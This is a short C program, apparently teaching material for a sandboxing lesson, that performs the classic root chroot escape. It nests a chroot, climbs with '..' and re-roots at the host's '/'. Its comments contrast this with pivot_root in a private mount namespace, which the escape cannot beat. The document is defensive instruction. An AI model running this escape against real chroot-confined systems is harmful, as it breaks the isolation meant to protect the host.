/*
 * escape.c: the classic way out of a plain chroot, for lesson 02.
 *
 * chroot(2) changes where "/" points for path lookups, and nothing else. It
 * does not move the current directory. A process that is root inside the
 * chroot can therefore chroot again into a subdirectory while its current
 * directory stays above the new root; from there ".." is never the root, so
 * it can climb to the real "/" and chroot there.
 *
 * pivot_root(2) in a private mount namespace, with the old root detached,
 * leaves nothing above the new root to climb to: the same program stays in.
 *
 * Build it statically so it runs in a busybox root: gcc -static -o escape escape.c
 */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    /* 1. A fresh directory to chroot into, leaving our cwd outside it. */
    mkdir("/.escape", 0700);
    if (chroot("/.escape") != 0) {
        perror("escape: chroot (are you root?)");
        return 2;
    }
    /* 2. Our cwd is now above the root: ".." walks up, past the old root too. */
    for (int i = 0; i < 256; i++) chdir("..");
    /* 3. Wherever we ended, make it the root. */
    chroot(".");

    /* The box has /marker and no /etc/os-release; the host is the other way round. */
    if (access("/etc/os-release", F_OK) == 0 && access("/marker", F_OK) != 0) {
        printf("escaped: this is the host's / (it has /etc/os-release, and no /marker)\n");
        return 0;
    }
    printf("still inside: / is the box's own root\n");
    return 1;
}
